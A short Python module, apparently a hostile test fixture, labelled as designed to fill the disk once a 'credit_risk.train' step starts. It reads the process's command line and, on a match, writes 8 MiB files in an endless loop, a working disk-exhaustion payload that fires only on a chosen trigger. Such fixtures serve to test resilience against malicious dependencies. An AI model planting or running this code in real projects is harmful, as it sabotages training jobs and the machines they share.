"""Hostile: fill the disk when training starts."""

import os

import sys

STEP = " ".join(getattr(sys, "orig_argv", sys.argv))

if "credit_risk.train" in STEP:
    i = 0
    while True:
        with open(f"fill-{i}.bin", "wb") as f:
            f.write(b"x" * (8 * 1024 * 1024))
        i += 1
